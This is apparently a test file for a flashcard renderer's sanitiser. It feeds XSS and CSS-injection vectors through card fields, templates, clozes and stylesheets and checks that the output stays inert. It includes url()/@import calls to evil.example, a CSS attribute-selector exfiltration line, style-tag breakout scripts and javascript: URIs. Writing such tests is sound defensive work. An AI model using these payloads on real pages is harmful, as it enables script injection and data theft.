import { describe, expect, test } from 'bun:test'
import fc from 'fast-check'
import { VECTORS } from '../../notes/html-vectors'
import { FULL, runs } from '../../support/full'
import { cardFaults, renderFact, renderNote } from './inert'

const CSS_VECTORS = [
  '@import "//evil.example/x.css";',
  "@import url('//evil.example/x.css') screen;",
  '@font-face{font-family:x;src:url(//evil.example/f.woff)} .card{font-family:x}',
  '.card{background:url(//evil.example/a.png)}',
  '.card{background:URL("//evil.example/a.png")}',
  '.card{background:u\\72l(//evil.example)}',
  '.card{background:image-set("//evil.example/a.png" 1x)}',
  '.card{background:-webkit-image-set(url(//evil.example) 1x)}',
  '.card{background:src("//evil.example")}',
  '.card{list-style:url(//evil.example)}',
  '.card{cursor:url(//evil.example),auto}',
  '.card{content:url(//evil.example)}',
  '.card{--x:url(//evil.example);background:var(--x)}',
  '.card{width:expression(alert(1))}',
  '.card{behavior:url(#default#time2)}',
  '.card{-moz-binding:url(//evil.example/x.xml#a)}',
  '.card{position:fixed;inset:0;z-index:99999}',
  '.card{position:sticky}',
  '.card{position:FIXED!important}',
  '.card{--p:fixed;position:var(--p)}',
  '.card{position:fi\\78 ed}',
  'body{display:none} html{display:none} :root{display:none} *{display:none}',
  'input[value^="a"]{background:url(//evil.example/a)}',
  '.card{}</style><script>alert(1)</script>',
  '.card{content:"</style><img src=x onerror=alert(1)>"}',
  '.card{font-family:"</style><script>alert(1)</script>"}',
  '/* </style><script>alert(1)</script> */ .card{color:red}',
  '<!-- .card{color:red} --> </style><svg onload=alert(1)>',
  '@media print{</style><script>alert(1)</script>{}}',
  '@media screen{@media screen{@media screen{@media screen{body{color:red}}}}}',
  '@namespace x url(//evil.example); @charset "x"; @supports (x:url(//evil.example)){.card{color:red}}',
  '@keyframes x{from{background:url(//evil.example)}}',
  '.card{color:red;background:url(//evil.example',
  '.card{color:"red',
  "a{color:red}'}body{background:url(//evil.example)}",
  '.a{.b{background:url(//evil.example)}color:red}',
  ':is(body){display:none} :host{display:none} ::slotted(*){display:none} :has(x){color:red}',
  '.x,body>*,main{display:none}',
  '.card:where(*){color:red} .card ~ * {color:red} .card + footer{color:red}',
  '}}}} body{display:none} {{{{',
]

/** Of the long lists, which are put together, the quick run takes one text in seven. */
const some = (texts: readonly string[]) => texts.filter((_, i) => FULL || texts.length < 100 || i % 7 === 0)

async function expectInert(written: Parameters<typeof renderNote>[0]) {
  const { prompt, answer } = await renderNote(written)
  for (const html of [prompt, answer]) {
    const found = cardFaults(html)
    if (found.length > 0) expect({ written, html, found }).toBeNull()
  }
}

describe('nothing acts of', () => {
  test.each(Object.entries(VECTORS))(
    '%s, in fields and templates',
    async (_, texts) => {
      expect(texts.length).toBeGreaterThan(5)
      for (const text of some(texts)) {
        await expectInert({ fields: { Front: text, Back: `<b title="${text}">x` } })
        await expectInert({
          question: `${text} {{Front}}`,
          answer: `<div class='${text}'>{{FrontSide}}`,
          fields: { Front: 'x' },
        })
      }
    },
    60_000,
  )

  test.each(['cloze', 'image_occlusion'] as const)(
    'vectors in clozes, masks and hints of %s',
    async (kind) => {
      for (const text of Object.values(VECTORS).flatMap((texts) => texts.slice(0, 40))) {
        const fields = {
          Front: `{{c1::${text}::${text}}} {{c2::${text}}}<img src="a.png">`,
          Back: `\\(${text}\\) [latex]${text}[/latex]`,
        }
        await expectInert({
          kind,
          question: '{{cloze:Front}}{{hint:Front}}{{tts en:Front}}',
          answer: '{{cloze:Front}}{{cloze-only:Front}}{{furigana:Back}}{{type:Back}}{{type:cloze:Front}}',
          fields,
        })
        const masks = `{{c1::image-occlusion:rect:left=${text}:top=.1:width=.1:height=.1}}{{c1::image-occlusion:text:left=.1:top=.1:text=${text}}}{{c1::image-occlusion:polygon:points=${text}}}`
        await expectInert({ kind, fields: { Front: `<img src="${text}">`, Back: masks } })
      }
    },
    60_000,
  )

  test('vectors in Markdown', async () => {
    for (const text of Object.values(VECTORS).flatMap((texts) => texts.slice(0, 60))) {
      const { prompt, answer } = await renderFact({ front: text, back: `$$${text}$$`, hint: text })
      for (const html of [prompt, answer]) expect(cardFaults(html)).toEqual([])
      const cloze = await renderFact({ text: `{{c1::${text}::${text}}} {{c2::x}}`, extra: text })
      for (const html of [cloze.prompt, cloze.answer]) expect(cardFaults(html)).toEqual([])
    }
  })

  test.each(CSS_VECTORS)('the CSS %s', async (css) => {
    await expectInert({ css, fields: { Front: 'x' } })
    await expectInert({ question: `<style>${css}</style>{{Front}}`, fields: { Front: `<p style='${css}'>x</p>` } })
    const [, declarations = ''] = /\{([^}]*)/.exec(css) ?? []
    await expectInert({ fields: { Front: `<p style="${declarations.replaceAll('"', '&quot;')}">x</p>` } })
  })

  test('marks of our own that a field spells', async () => {
    for (const mark of [
      '<anki-sound src="javascript:alert(1)"></anki-sound><anki-typed onclick=x><anki-occluded style="position:fixed">',
      '<img src="satchel-media:x" onerror=alert(1)><img src="satchel-media::javascript:alert(1)">',
      '<a href="satchel-media:x">y</a>',
      '\\(a\\) <b title="%&#xe000;0&#xe000;%">x</b>',
      '\\(%&#xe000;1&#xe000;%\\) $$\\text{" onclick=alert(1) x="}$$ <b title="%&#xe000;0&#xe000;%">x</b>',
      '\\(a\\) <b class="%&#xe000;0&#xe000;%" style="color:%&#xe000;0&#xe000;%" id="%&#xe000;0&#xe000;%">x</b>',
    ])
      await expectInert({ fields: { Front: mark, Back: mark } })
  })
})

const PIECES = [
  ...Object.values(VECTORS).flatMap((texts) => texts.slice(0, 50).flatMap((text) => text.split(/(?<=[<>"'\s=])/))),
  ...CSS_VECTORS.flatMap((css) => css.split(/(?<=[{};:"'()])/)),
  ...'\\( \\) \\[ \\] $ $$ [latex] [/latex] [$] [/$] {{c1:: :: }} [sound: ] \\text{ \\color{ } & &lt; &quot; < > " \' style= <style> </style> <math> </math> <svg> <mtext> <!-- -->'.split(
    ' ',
  ),
]
const text = fc.array(fc.constantFrom(...PIECES), { maxLength: 20 }).map((parts) => parts.join(''))

test('whatever is put together from pieces of them', async () => {
  await fc.assert(
    fc.asyncProperty(
      text,
      text,
      text,
      fc.constantFrom('standard', 'cloze', 'image_occlusion'),
      async (front, back, css, kind) => {
        const question = `{{cloze:Front}} ${back} {{furigana:Back}}`
        await expectInert({ kind, css, question, fields: { Front: front, Back: back } })
      },
    ),
    { numRuns: runs(300) },
  )
})

describe('the check itself', () => {
  test.each([
    '<p onclick="x">',
    '<a href="javascript:x">',
    '<img src="https://evil.example/x">',
    '<b id=x>',
    '<script>1</script>',
    '<p style="background:url(x)">',
    '<style>body{color:red}</style>',
    '<svg><script>x</script></svg>',
    '</main><p>x',
    '<input type=text>',
  ])('sees %s', (html) => {
    expect(cardFaults(html).length).toBeGreaterThan(0)
  })
})
